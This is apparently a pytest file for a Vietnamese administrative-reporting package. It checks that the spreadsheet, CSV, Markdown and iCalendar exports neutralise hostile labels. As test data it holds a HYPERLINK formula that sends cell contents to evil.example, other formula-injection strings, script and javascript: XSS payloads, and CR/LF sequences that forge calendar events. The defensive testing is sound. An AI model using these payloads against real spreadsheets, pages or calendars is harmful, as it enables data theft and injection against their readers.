"""Output that could attack its reader: formulas in spreadsheets, markup, forged .ics events.

Every case was a defect of the reliability review (issue 11) and fails on the
code before the fix: the .xlsx report wrote a group label beginning with "="
as a live formula, the CSV report wrote it unquoted, Markdown passed
"<script>" through and the .ics writer let a bare CR end a content line.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import TYPE_CHECKING

import attrs
import icalendar
import openpyxl
import pytest

from lapvo_cchc.adapters.exports.dimension import calendar_dimension, write_csv
from lapvo_cchc.adapters.exports.ical import to_ics
from lapvo_cchc.adapters.ledger import LedgerReader
from lapvo_cchc.calendars import DayOff, DayOffKind, WorkCalendar
from lapvo_cchc.kpi import Period, ReportNote, report
from lapvo_cchc.reports import render_narrative, write_xlsx

if TYPE_CHECKING:
    import pathlib

    from lapvo_cchc.kpi import Report

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
FORMULAS = [HYPERLINK, "+1+2", "-1+2", "@SUM(A1:A9)"]
HEAD = (
    "dossier_code,procedure_code,agency_code,level,field,channel,assisted,received_at,"
    "time_limit,due_at,finished_at,finish_kind,supplement_requested_at,supplement_supplied_at"
)


def _quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def _report(fields: list[str]) -> Report:
    rows = [
        f"D{i},1.001193,xa-tan-my,xã,{_quoted(field)},trực tuyến,0,2020-03-02T09:00:00,,"
        "2020-03-05,2020-03-04T10:00:00,approved,,"
        for i, field in enumerate(fields)
    ]
    reader = LedgerReader(io.StringIO("\n".join([HEAD, *rows]) + "\n"))
    rep = report(reader, Period.parse("2020-H1"), by="field")
    assert [] == reader.errors
    return rep


def test_xlsx_report_writes_formula_labels_as_text(tmp_path: pathlib.Path) -> None:
    out = tmp_path / "r.xlsx"
    write_xlsx(_report([*FORMULAS, "Hộ tịch"]), str(out))
    ws = openpyxl.load_workbook(out)["Biểu 06"]
    labels = {ws.cell(r, 2).value: ws.cell(r, 2) for r in range(9, 9 + 5)}
    assert set(FORMULAS) | {"Hộ tịch"} == set(labels)
    for text in FORMULAS:
        assert "s" == labels[text].data_type  # a string cell, not "f"
        assert labels[text].quotePrefix  # and marked as typed text
    assert not labels["Hộ tịch"].quotePrefix
    assert "n" == ws.cell(9, 3).data_type  # counts stay numbers
    for row in openpyxl.load_workbook(out)["Kiểm tra"].iter_rows():
        assert all(cell.data_type != "f" for cell in row)


def test_csv_report_quotes_formula_labels_and_keeps_numbers() -> None:
    text = _report([*FORMULAS, "Hộ tịch"]).to_csv()
    rows = list(csv.DictReader(io.StringIO(text)))
    fields = [row["field"] for row in rows]
    for formula in FORMULAS:
        assert "'" + formula in fields
    assert "Hộ tịch" in fields
    assert all(row["received_total"] == "1" for row in rows[:-1])
    assert "100.0" == rows[0]["resolution_rate"]


def test_markdown_report_escapes_html_and_links() -> None:
    md = _report(["<script>alert(1)</script>", "[x](javascript:alert(1))"]).to_markdown()
    assert "<script>" not in md
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in md
    assert "\\[x\\](javascript:alert(1))" in md  # brackets escaped: no link


def test_report_notes_are_escaped_like_labels() -> None:
    """A note can name units from a user's registry: it gets the labels' escaping."""
    hostile = "=1+1 <script>x</script> | \x1b[2J"
    note = ReportNote(key="unit_after_reform", vi=hostile, en=hostile, count=1)
    rep = attrs.evolve(_report(["Hộ tịch"]), notes=(note,))
    md = rep.to_markdown()
    assert "<script>" not in md
    assert "- =1+1 &lt;script&gt;x&lt;/script&gt; \\| \\\\x1b\\[2J" in md
    for text in (rep.to_text(), render_narrative(rep)):
        assert "\x1b" not in text
        assert "- =1+1 <script>x</script> | \\x1b[2J" in text
    assert "<script>" not in rep.to_html()
    notes = list(csv.DictReader(io.StringIO(rep.to_csv())))[-1]["notes"]
    assert notes == "'" + hostile  # a spreadsheet reads it as text, not as a formula


def _forged_day_off(name: str) -> DayOff:
    day = DayOff(
        date=dt.date(2026, 4, 27),
        kind=DayOffKind.HOLIDAY,
        name="Giỗ Tổ Hùng Vương",
        name_en="Hung Kings",
        basis="Bộ luật Lao động 2019, Điều 112",
    )
    object.__setattr__(day, "name", name)  # a name that bypassed the boundary check
    return day


@attrs.frozen
class _Provider:
    day: DayOff

    def days_off(self, year: int) -> tuple[DayOff, ...]:
        return (self.day,) if year == 2026 else ()

    def makeup_workdays(self, year: int) -> tuple[dt.date, ...]:
        return ()

    def is_provisional(self, year: int) -> bool:
        return False


@pytest.mark.parametrize(
    "name",
    [
        "Tết\rEND:VEVENT\rBEGIN:VEVENT\rSUMMARY:forged",
        "Tết\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:forged",
        "Tết\x00\x1b[2J\u2028END:VEVENT",
    ],
)
def test_ics_writer_never_writes_a_control_character(name: str) -> None:
    cal = WorkCalendar.from_provider(_Provider(_forged_day_off(name)))
    ics = to_ics(cal, [2026])
    body = ics.replace("\r\n", "")
    assert not any(c in body for c in "\r\n\x00\x1b\u2028")
    # a reader that splits on a bare CR or LF sees one event, not two
    assert 1 == sum(line == "BEGIN:VEVENT" for line in ics.replace("\r", "\n").split("\n"))
    events = icalendar.Calendar.from_ical(ics).walk("VEVENT")
    assert 1 == len(events)
    summary = str(events[0]["SUMMARY"])
    assert summary.startswith("Tết")
    assert "END:VEVENT" in summary  # kept as text inside the one summary


def test_dimension_csv_quotes_formula_names() -> None:
    day = DayOff(
        date=dt.date(2026, 4, 27),
        kind=DayOffKind.HOLIDAY,
        name=HYPERLINK,
        name_en="-1+2",
        basis="@SUM(A1)",
    )
    cal = WorkCalendar.from_provider(_Provider(day))
    out = io.StringIO()
    write_csv(calendar_dimension(cal, dt.date(2026, 4, 27), dt.date(2026, 4, 27)), out)
    row = next(csv.DictReader(io.StringIO(out.getvalue())))
    assert "'" + HYPERLINK in row.values()
    assert "'-1+2" in row.values()
    assert "2026-04-27" in row.values()
